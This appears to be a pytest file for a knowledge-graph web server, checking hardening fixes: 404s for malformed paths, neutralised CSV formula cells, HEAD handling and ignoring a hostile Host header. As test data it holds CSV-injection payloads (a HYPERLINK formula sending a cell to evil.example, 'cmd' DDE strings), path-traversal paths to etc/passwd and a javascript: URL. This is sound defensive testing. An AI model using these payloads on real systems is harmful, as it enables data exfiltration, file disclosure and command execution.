"""Issue 8, points 10-12 (the small ones), as attacks on a real ``pmkg serve`` on loopback.

Each test names the exact request and the response expected:

* malformed or unknown vocabulary, ontology, entity, graph and saved-query
  paths answer 404 (they answered 500), and error pages carry their real
  title (a 500 page printed ``<property object at 0x...>``);
* CSV that a person downloads for a spreadsheet never starts a cell with a
  formula character (OWASP "CSV Injection"); ``/sparql?format=csv`` stays
  the exact W3C format for programs;
* HEAD is answered like GET (``HEAD /sparql?query=...`` answered 415);
* the ``Host`` header never reaches VoID, OpenAPI, the Service Description
  or the saved queries' list: ``BASE_URL`` (``PMKG_BASE_URL``) or the
  server's own address does.
"""

from __future__ import annotations

import csv
import http.client
import io
import json
import os
import subprocess
import sys
import time
import urllib.request
from pathlib import Path
from urllib.parse import quote

import pytest

from kg.store import Store
from kg.web import create_app
from test_web_server import free_port

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
# Fictional articles whose headlines are spreadsheet formulas (and one harmless number-like one).
HEADLINES = {
    "formula": FORMULA,
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "number": "-5",
    "plain": "Officer cleared, then sacked",
}
ARTICLE = "https://w3id.org/pmkg/id/article/sec-csv-"


def _articles_trig() -> bytes:
    graphs = []
    for key, headline in HEADLINES.items():
        iri = ARTICLE + key
        graphs.append(
            f"<{iri}> {{ <{iri}> a <https://w3id.org/pmkg/ontology#NewsArticle> ;"
            f" <https://w3id.org/pmkg/ontology#retrievedFrom> <https://news.example/{key}> ;"
            f" <https://schema.org/headline> {json.dumps(headline)} . }}"
        )
    return "\n".join(graphs).encode("utf-8")


@pytest.fixture(scope="module")
def store_path(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("sec-small") / "store"
    with Store.create(path) as store:
        store.load(ROOT / "samples" / "sample-case.trig", format="trig")
        store.load(_articles_trig(), format="trig")
    return path


def _serve(store: Path, **env: str):
    """Start ``pmkg serve``; its log goes to a file (a pipe nobody reads would fill and stall the server)."""
    port = free_port()
    log = open(store.parent / f"serve-{port}.log", "wb")
    process = subprocess.Popen(
        [sys.executable, "-c", "from kg.web.cli import serve; serve()", "--store", str(store), "--port", str(port)],
        env={**os.environ, "PMKG_QUERY_TIMEOUT": "5", "PMKG_DOCS_DIR": str(store.parent / "docs"), **env},
        stdout=log, stderr=log,
    )
    log.close()
    deadline = time.monotonic() + 30
    while True:
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/sparql", timeout=2).read()
            return process, port
        except OSError:
            if process.poll() is not None or time.monotonic() > deadline:
                process.kill()
                raise RuntimeError((store.parent / f"serve-{port}.log").read_text()) from None
            time.sleep(0.1)


@pytest.fixture(scope="module")
def server(store_path):
    """``pmkg serve`` with no BASE_URL: the port it listens on."""
    process, port = _serve(store_path)
    yield port
    process.terminate()
    process.wait(timeout=10)


@pytest.fixture(scope="module")
def server_with_base_url(store_path):
    process, port = _serve(store_path, PMKG_BASE_URL="https://pmkg.example.org/kg/")
    yield port
    process.terminate()
    process.wait(timeout=10)


def request(port: int, method: str, path: str, headers: dict | None = None) -> tuple[int, dict, bytes]:
    """Send exactly ``method path`` (the path as written, not re-quoted) and read the whole answer."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request(method, path, headers=headers or {})
        response = connection.getresponse()
        return response.status, {k.lower(): v for k, v in response.getheaders()}, response.read()
    finally:
        connection.close()


# -- point 10: 404 for malformed paths, and error pages with their real title --------------

MALFORMED = [
    "/vocab/a%20b.ttl",                 # the request
    "/vocab/a%20b",
    "/vocab/%00.jsonld",
    "/vocab/%ff.ttl",                   # not UTF-8
    "/vocab/%c3%28",                    # not UTF-8
    "/vocab/rank/a%3Cb%3E.nt",
    "/vocab/rank/..%2F..%2Fetc%2Fpasswd.ttl",
    "/vocab/" + "x" * 5000 + ".ttl",
    "/vocab/rank/no-such-rank.ttl",     # well-formed, unknown
    "/id/a%20b.ttl",
    "/id/%ff",
    "/graph/%00",
    "/graph/no-such-graph.nq",
    "/queries/" + "x" * 5000,           # answered 500 (file name too long)
    "/queries/sources.xlsx",
    "/ontology/%ff",
    "/downloads/pmkg.%00",
    "/docs/ontology/..%2F..%2Fpmkg.cfg",
]


@pytest.mark.parametrize("accept", ["text/turtle", "application/json", "text/html"])
@pytest.mark.parametrize("path", MALFORMED, ids=lambda p: p[:40])
def test_a_malformed_or_unknown_path_is_a_404_not_a_500(server, path, accept):
    status, headers, body = request(server, "GET", path, {"Accept": accept})
    assert status == 404, body[:300]
    if accept == "text/html":
        assert "<title>404 Not Found - pmkg</title>" in body.decode("utf-8")
    else:
        assert json.loads(body)["error"]["title"] == "Not Found"


def test_an_unknown_vocabulary_concept_is_a_404_for_browsers_too(server):
    # GET /vocab/rank/no-such-rank, Accept: text/html -> 404 (was a 303 to documentation that has no such term)
    status, _, body = request(server, "GET", "/vocab/rank/no-such-rank", {"Accept": "text/html"})
    assert status == 404 and b"no vocabulary term /vocab/rank/no-such-rank" in body
    # a known concept still leads to its documentation
    status, headers, _ = request(server, "GET", "/vocab/rank/constable", {"Accept": "text/html"})
    assert status == 303 and headers["location"].endswith("/docs/ontology/vocab/rank.html#constable")


def test_the_500_page_names_its_status_not_a_python_object(store_path):
    # An unexpected error (a bug) on any route: GET /boom, Accept: text/html -> 500 "Internal Server Error".
    app = create_app({"STORE": str(store_path)})

    def boom():
        raise RuntimeError("a bug")

    app.add_url_rule("/boom", "boom", boom)
    client = app.test_client()
    page = client.get("/boom", headers={"Accept": "text/html"})
    assert page.status_code == 500
    text = page.get_data(as_text=True)
    assert "<title>500 Internal Server Error - pmkg</title>" in text and "<h1>500 Internal Server Error</h1>" in text
    assert "property object" not in text and "a bug" not in text
    data = client.get("/boom", headers={"Accept": "application/json"}).get_json()
    assert data["error"]["title"] == "Internal Server Error"
    assert data["error"]["message"] == "something went wrong on the server; the error has been logged"


# -- point 11: CSV for spreadsheets -------------------------------------------------------

def _headlines(body: bytes) -> dict[str, str]:
    rows = csv.DictReader(io.StringIO(body.decode("utf-8"), newline=""))
    return {row["article"].removeprefix(ARTICLE): row["headline"] for row in rows if row["article"].startswith(ARTICLE)}


NEUTRALISED = {
    "formula": "'" + FORMULA,
    "plus": "'" + HEADLINES["plus"],
    "minus": "'-2+3",
    "at": "'" + HEADLINES["at"],
    "tab": "'\t=1+1",
    "return": "'\r=1+1",
    "number": "-5",                     # only a number: cannot be a formula, left as it is
    "plain": "Officer cleared, then sacked",
}


def test_saved_query_csv_neutralises_formula_cells(server):
    # GET /queries/sources.csv -> 200 text/csv; a headline "=HYPERLINK(...)" is the cell "'=HYPERLINK(...)", quoted
    status, headers, body = request(server, "GET", "/queries/sources.csv")
    assert status == 200 and headers["content-type"] == "text/csv; charset=utf-8"
    assert headers["content-disposition"] == 'attachment; filename="sources.csv"'
    assert _headlines(body) == NEUTRALISED
    assert b',"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")",' in body
    for line in body.decode("utf-8").split("\r\n"):
        for cell in next(csv.reader([line])) if line else []:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), line


def test_sparql_csv_for_a_spreadsheet_is_neutralised_and_for_programs_exact(server):
    query = quote("SELECT ?article ?headline WHERE { ?article <https://schema.org/headline> ?headline } "
                  "ORDER BY ?article")
    # GET /sparql?query=...&format=csv&download=spreadsheet (the home page's CSV link) -> neutralised
    status, headers, body = request(server, "GET", f"/sparql?query={query}&format=csv&download=spreadsheet")
    assert status == 200 and headers["content-type"] == "text/csv; charset=utf-8"
    assert _headlines(body) == NEUTRALISED
    # GET /sparql?query=...&format=csv -> the W3C SPARQL CSV results format, values exactly as in the graph
    status, _, body = request(server, "GET", f"/sparql?query={query}&format=csv")
    assert status == 200 and _headlines(body) == HEADLINES


# -- point 12: HEAD like GET ----------------------------------------------------------------

HEAD_PATHS = [
    "/sparql?query=" + quote("ASK { ?s ?p ?o }"),          # the request: was 415
    "/sparql?query=" + quote("SELECT * WHERE { ?s ?p ?o } LIMIT 3") + "&format=csv",
    "/sparql?query=" + quote("SELEC nonsense"),              # a 400 is a 400 for HEAD too
    "/sparql",
    "/queries/sources.csv",
    "/queries/officers.json",
    "/.well-known/void",
    "/vocab/a%20b.ttl",
    "/id/officer/kent-police/harriet-voss.ttl",
]


@pytest.mark.parametrize("path", HEAD_PATHS, ids=lambda p: p[:50])
def test_head_is_answered_like_get_without_a_body(server, path):
    get_status, get_headers, get_body = request(server, "GET", path, {"Accept": "text/turtle"})
    head_status, head_headers, head_body = request(server, "HEAD", path, {"Accept": "text/turtle"})
    assert head_status == get_status and head_body == b""
    for name in ("content-type", "content-length", "access-control-allow-origin", "content-security-policy"):
        assert head_headers.get(name) == get_headers.get(name), name
    assert int(head_headers["content-length"]) == len(get_body)


# -- point 12: the Host header does not reach published URLs ------------------------------------

def _published(port: int, host: str) -> dict[str, bytes]:
    """What VoID, OpenAPI, the Service Description and the saved queries' list say, asked with ``Host: host``."""
    documents = {}
    for name, path, accept in (("void", "/.well-known/void", "text/turtle"),
                               ("void.ttl", "/downloads/void.ttl", "text/turtle"),
                               ("openapi", "/openapi.json", "application/json"),
                               ("service description", "/sparql", "text/turtle"),
                               ("queries.json", "/queries.json", "application/json")):
        status, _, body = request(port, "GET", path, {"Host": host, "Accept": accept})
        assert status == 200, (name, body[:200])
        documents[name] = body
    return documents


def test_a_hostile_host_header_is_not_published(server):
    # GET /.well-known/void, Host: evil.example -> the endpoint is the server's own address, not evil.example
    for name, body in _published(server, "evil.example").items():
        assert b"evil.example" not in body, name
        assert f"http://127.0.0.1:{server}".encode() in body, name
    status, _, body = request(server, "GET", "/openapi.json", {"Host": "evil.example:443"})
    assert json.loads(body)["servers"] == [{"url": f"http://127.0.0.1:{server}"}]


def test_base_url_setting_is_what_is_published(server_with_base_url):
    port = server_with_base_url
    documents = _published(port, "evil.example")
    for name, body in documents.items():
        assert b"evil.example" not in body and b"127.0.0.1" not in body, name
    assert b"void:sparqlEndpoint <https://pmkg.example.org/kg/sparql>" in documents["void"]
    assert b"<https://pmkg.example.org/kg/downloads/pmkg.trig>" in documents["void"]
    assert b"sd:endpoint <https://pmkg.example.org/kg/sparql>" in documents["service description"]
    assert json.loads(documents["openapi"])["servers"] == [{"url": "https://pmkg.example.org/kg"}]
    urls = {entry["url"] for entry in json.loads(documents["queries.json"])}
    assert "https://pmkg.example.org/kg/queries/sources" in urls


@pytest.mark.parametrize("value", ["ftp://pmkg.example.org", "pmkg.example.org", "javascript:alert(1)",
                                   "https://", "https://pmkg.example.org/?x=1", "https://a b.example"])
def test_a_base_url_that_is_not_an_http_url_stops_the_server_at_start(store_path, value):
    # PMKG_BASE_URL=ftp://... pmkg serve -> exit status 1 and one line naming the setting
    try:
        process = subprocess.run([sys.executable, "-m", "kg", "serve", "--store", str(store_path), "--port", "0"],
                                 env={**os.environ, "PMKG_BASE_URL": value}, capture_output=True, text=True,
                                 timeout=20)
    except subprocess.TimeoutExpired:
        pytest.fail(f"the server started with PMKG_BASE_URL={value!r}")
    assert process.returncode == 1
    assert process.stderr.startswith("Error: setting BASE_URL must be an http(s) URL")
    assert len(process.stderr.strip().splitlines()) == 1
